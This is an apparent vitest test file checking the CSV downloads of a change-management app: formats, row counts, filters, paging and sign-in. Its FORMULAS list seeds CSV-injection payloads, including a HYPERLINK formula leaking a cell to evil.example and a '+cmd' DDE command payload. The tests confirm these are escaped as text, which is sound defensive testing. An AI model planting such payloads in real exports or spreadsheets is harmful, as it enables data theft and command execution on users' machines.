/**
 * The CSV downloads over real components (SQLite store, projection runner): the heatmap as of a
 * date, the resistance log and the stakeholder list, each with its page's filters. Every file is
 * read back by Python's csv module, an independent RFC 4180 reader; its rows are counted against
 * the page's own total, hostile names come out as text, and bad filters are refused like the page
 * refuses them.
 */
import { execFileSync } from 'node:child_process';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SqliteResistanceQueries } from '../../projections/resistance/queries.ts';
import { SqliteStakeholderQueries } from '../../projections/stakeholders/queries.ts';
import { signalPages } from '../../src/resistance/export.ts';
import { stakeholderPages } from '../../src/stakeholder/export.ts';
import { appFor, closeWorld, CYCLE, given, openWorld, seedSmallOrganisation, TODAY, type World } from '../support/webApp.ts';

/** What a spreadsheet user types to make a cell run: each must come back as text, behind a `'`. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)'];

let world: World;
let app: FastifyInstance;

beforeAll(async () => {
  world = openWorld();
  // Engineering › Platform and R&D <Labs>; Payments and Search & <Discovery>; sig-1 open, severity 4, in Engineering.
  await seedSmallOrganisation(world);
  const stakeholder = async (stakeholderId: string, name: string, role: string, areaId: string) =>
    given(world, 'stakeholder', stakeholderId, '2026-10-01', {
      type: 'StakeholderIdentified',
      data: { stakeholderId, name, role, areaId, influence: 4, interest: 3 },
    });
  await stakeholder('vera', 'Véra "the sponsor", Pätel', 'VP Engineering\nand Platform', 'eng');
  await stakeholder('lars', 'Lars Ek', 'Head of Platform', 'plat');
  for (const [i, name] of FORMULAS.entries()) await stakeholder(`hostile-${i}`, name, 'Tester', 'rnd');
  await given(world, 'stakeholder', 'lars', '2026-10-05', {
    type: 'AttitudeAssessed',
    data: { stakeholderId: 'lars', attitude: 'skeptic' },
  });
  const signal = async (signalId: string, severity: number, description: string, areaId: string, raisedOn: string) =>
    given(world, 'signal', signalId, raisedOn, {
      type: 'ResistanceSignalRaised',
      data: { signalId, areaId, kind: 'unconvinced', severity, description, source: 'observed', raisedOn },
    });
  await signal('sig-2', 2, FORMULAS[0]!, 'rnd', '2026-11-03');
  await signal('sig-3', 3, 'Platform, "quietly", skips reviews', 'plat', '2026-11-04');
  await signal('sig-4', 5, 'Sponsor pulled out', 'plat', '2026-11-05');
  await given(world, 'signal', 'sig-4', '2026-11-06', {
    type: 'ResistanceSignalResolved',
    data: { signalId: 'sig-4', resolution: 'A new sponsor stepped in', resolvedOn: '2026-11-06' },
  });
  await world.runner.catchUp();
  app = await appFor(world, {}, 'leader');
}, 60_000);

afterAll(async () => {
  await app?.close();
  if (world) await closeWorld(world);
});

/** The file as Python's csv module reads it (BOM stripped by `utf-8-sig`): a list of records. */
function parse(body: string): string[][] {
  const program =
    'import csv,io,json,sys; print(json.dumps(list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding="utf-8-sig", newline="")))))';
  return JSON.parse(execFileSync('python3', ['-c', program], { input: Buffer.from(body, 'utf8') }).toString('utf8'));
}

/** The records as objects by heading. */
async function download(url: string) {
  const res = await app.inject(url);
  expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
  const [header, ...rows] = parse(res.body);
  return { res, header: header!, rows: rows.map((row) => Object.fromEntries(header!.map((h, i) => [h, row[i]!]))) };
}

/** The number a page prints in its count. */
const countIn = async (url: string, pattern: RegExp): Promise<number> => {
  const match = pattern.exec((await app.inject(url)).body);
  if (!match) throw new Error(`no count on ${url}`);
  return Number(match[1]);
};

describe('every export', () => {
  it.each([
    ['/heatmap.csv', `uptake-heatmap-2026-Q4-${TODAY}.csv`],
    ['/resistance.csv', `uptake-resistance-${TODAY}.csv`],
    ['/stakeholders.csv', `uptake-stakeholders-${TODAY}.csv`],
  ])('%s is a UTF-8 CSV attachment with a BOM, a header row and CRLF line ends', async (url, filename) => {
    const res = await app.inject(url);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${filename}"`);
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(res.body.endsWith('\r\n')).toBe(true);
    // Every line break outside a quoted field is CRLF.
    expect(res.body.replace(/"(?:[^"]|"")*"/g, '').match(/(?<!\r)\n/g)).toBeNull();
  });

  it('is signed-in only, as its page is: signed out you are sent to sign in', async () => {
    const anonymous = await appFor(world, {}, null);
    try {
      for (const url of ['/heatmap.csv', '/resistance.csv?status=all', '/stakeholders.csv']) {
        const res = await anonymous.inject(url);
        expect(res.statusCode).toBe(303);
        expect(res.headers.location).toBe(`/signin?next=${encodeURIComponent(url)}`);
      }
    } finally {
      await anonymous.close();
    }
  });
});

describe('/heatmap.csv', () => {
  it('has every area in tree order, each followed by its own teams, with the scores, stage and check-ins', async () => {
    const { header, rows } = await download(`/heatmap.csv?cycle=${CYCLE}&asOf=${TODAY}`);
    expect(header.slice(0, 12)).toEqual([
      'Level',
      'Area',
      'Code',
      'Name',
      'People',
      'Teams',
      'Learn',
      'Set',
      'Align',
      'Run',
      'Reflect',
      'Overall',
    ]);
    expect(rows.map((r) => [r.Level, r.Area, r.Name])).toEqual([
      ['Area', 'Engineering', 'Engineering'],
      ['Team', 'Engineering', 'Search & <Discovery>'],
      ['Area', 'Engineering › Platform', 'Platform'],
      ['Team', 'Engineering › Platform', 'Payments'],
      ['Area', 'R&D <Labs>', 'R&D <Labs>'],
    ]);
    const payments = rows[3]!;
    expect(payments).toMatchObject({ Code: 'PAY', People: '8', Learn: '100', 'Check-ins': 'on time', 'Last check-in on': '2026-11-12' });
    // The page's own figures for the same row.
    const page = (await app.inject(`/teams/pay?cycle=${CYCLE}&asOf=${TODAY}`)).body;
    for (const column of ['Learn', 'Set', 'Run', 'Overall']) expect(page).toContain(`>${payments[column]}<`);
    // An area with no teams has no scores, not zeros.
    expect(rows[4]).toMatchObject({ Teams: '0', Learn: '', Overall: '', 'Open signals': '1', 'Highest severity': '2' });
    // Its own signal and Platform's; the resolved one is not open.
    expect(rows[0]).toMatchObject({ Teams: '2', People: '12', 'Open signals': '2', 'Highest severity': '4' });
  });

  it('is as of the date asked: before the first check-in Payments has none', async () => {
    const { rows } = await download(`/heatmap.csv?asOf=2026-10-10`);
    expect(rows.find((r) => r.Name === 'Payments')).toMatchObject({ 'Check-ins held': '0', 'Last check-in on': '' });
  });

  it('refuses a bad date or an unknown cycle as the page does, naming the parameter', async () => {
    const bad = await app.inject({ url: '/heatmap.csv?asOf=2026-13-45', headers: { accept: 'application/json' } });
    expect(bad.statusCode).toBe(422);
    expect(bad.json().issues).toEqual([{ field: 'asOf', message: 'must be a calendar date, YYYY-MM-DD' }]);
    const page = await app.inject('/heatmap?asOf=2026-13-45');
    expect(page.statusCode).toBe(422);
    expect(page.body).toContain('must be a calendar date, YYYY-MM-DD');
    const future = await app.inject({ url: '/heatmap.csv?asOf=2026-11-26', headers: { accept: 'application/json' } });
    expect(future.statusCode).toBe(422);
    expect(future.json().issues).toEqual([{ field: 'asOf', message: `must not be after today (${TODAY})` }]);
    const unknown = await app.inject('/heatmap.csv?cycle=no-such-cycle');
    expect(unknown.statusCode).toBe(404);
    expect(unknown.body).toContain('There is no cycle &quot;no-such-cycle&quot;');
  });
});

describe('/resistance.csv', () => {
  it('has as many rows as the log counts, with its filters applied, in its order', async () => {
    for (const query of ['', '?status=all', '?status=resolved', '?area=plat', '?area=eng&status=all&severity=3', '?kind=no-time']) {
      const { rows } = await download(`/resistance.csv${query}`);
      const total = await countIn(`/resistance${query}`, /(\d+) shown/);
      expect(rows.length, query).toBe(total);
    }
    const all = await download('/resistance.csv?status=all');
    expect(all.rows.map((r) => [r.Signal, r.Severity, r.Status])).toEqual([
      ['sig-4', '5', 'Resolved'],
      ['sig-1', '4', 'Raised'],
      ['sig-3', '3', 'Raised'],
      ['sig-2', '2', 'Raised'],
    ]);
    expect(all.rows[0]).toMatchObject({ Area: 'Platform', Resolution: 'A new sponsor stepped in', 'Resolved on': '2026-11-06' });
    expect(all.rows[1]).toMatchObject({ Kind: 'No time', Team: 'Search & <Discovery>', Source: 'Observed', 'Severity label': 'High' });
  });

  it('keeps quotes and commas in their field and a formula as text', async () => {
    const { res, rows } = await download('/resistance.csv');
    expect(rows.find((r) => r.Signal === 'sig-3')?.Description).toBe('Platform, "quietly", skips reviews');
    expect(rows.find((r) => r.Signal === 'sig-2')?.Description).toBe(`'${FORMULAS[0]}`);
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
  });

  it('refuses a bad filter, and an area the organisation does not know, naming it', async () => {
    const bad = await app.inject({ url: '/resistance.csv?severity=9', headers: { accept: 'application/json' } });
    expect(bad.statusCode).toBe(422);
    expect(bad.json().issues).toEqual([{ field: 'severity', message: 'must be a severity from 1 to 5' }]);
    const unknown = await app.inject({ url: '/resistance.csv?area=atlantis', headers: { accept: 'application/json' } });
    expect(unknown.statusCode).toBe(422);
    expect(unknown.json().issues).toEqual([{ field: 'area', message: 'must be one of the areas listed' }]);
  });

  it('pages through the log by its keyset: every signal once, in order, whatever the page size', async () => {
    const queries = new SqliteResistanceQueries(world.db);
    const filter = { status: 'all' as const };
    const whole = queries.signals(filter, TODAY).map((s) => s.signalId);
    for (const size of [1, 2, 3, 4, 5]) {
      const pages = [...signalPages(queries, filter, TODAY, size)];
      expect(pages.flat().map((s) => s.signalId)).toEqual(whole);
      expect(pages.every((page) => page.length <= size)).toBe(true);
    }
  });

  it('the log links to the download with its filters, never its page', async () => {
    const html = (await app.inject('/resistance?area=eng&status=all&after=9_2099-01-01_x')).body;
    expect(html).toContain('href="/resistance.csv?area=eng&amp;status=all" download');
  });
});

describe('/stakeholders.csv', () => {
  it('has as many rows as the list counts, with its filters and order', async () => {
    for (const query of ['', '?area=eng', '?attitude=skeptic', '?attitude=unassessed', '?q=ek', '?weeks=2', '?sort=name']) {
      const { rows } = await download(`/stakeholders.csv${query}`);
      const total = await countIn(`/stakeholders${query}`, /<span class="muted stakeholder-count">(\d+) stakeholders?/);
      expect(rows.length, query).toBe(total);
    }
    const skeptics = await download('/stakeholders.csv?attitude=skeptic');
    expect(skeptics.rows).toEqual([
      expect.objectContaining({
        Name: 'Lars Ek',
        Area: 'Engineering › Platform',
        Attitude: 'Skeptic',
        'ADKAR stage': 'Not assessed',
        Influence: '4',
      }),
    ]);
    const byName = await download('/stakeholders.csv?sort=name');
    expect(byName.rows.map((r) => r.Stakeholder)).toEqual(['hostile-1', 'hostile-2', 'hostile-0', 'hostile-3', 'lars', 'vera']);
  });

  it('writes hostile and unusual names as text in one field each', async () => {
    const { rows } = await download('/stakeholders.csv?area=rnd');
    expect(rows.map((r) => r.Name).sort()).toEqual(FORMULAS.map((f) => `'${f}`).sort());
    const vera = (await download('/stakeholders.csv?q=VP')).rows;
    expect(vera).toEqual([expect.objectContaining({ Name: 'Véra "the sponsor", Pätel', Role: 'VP Engineering\nand Platform' })]);
  });

  it('refuses a bad filter as the page does, naming it', async () => {
    const bad = await app.inject({ url: '/stakeholders.csv?weeks=99', headers: { accept: 'application/json' } });
    expect(bad.statusCode).toBe(422);
    expect(bad.json().issues).toEqual([{ field: 'weeks', message: 'must be at most 52' }]);
  });

  it('pages through the list: every stakeholder once, in order, whatever the page size', () => {
    const queries = new SqliteStakeholderQueries(world.db);
    const whole = queries.list({ sort: 'name' }).map((s) => s.stakeholderId);
    for (const size of [1, 2, 5, 6, 7]) {
      expect([...stakeholderPages(queries, { sort: 'name' }, size)].flat().map((s) => s.stakeholderId)).toEqual(whole);
    }
  });

  it('the list links to the download with its filters and order, never its page', async () => {
    const html = (await app.inject('/stakeholders?area=eng&sort=name&page=2')).body;
    expect(html).toContain('href="/stakeholders.csv?area=eng&amp;sort=name" download');
  });
});
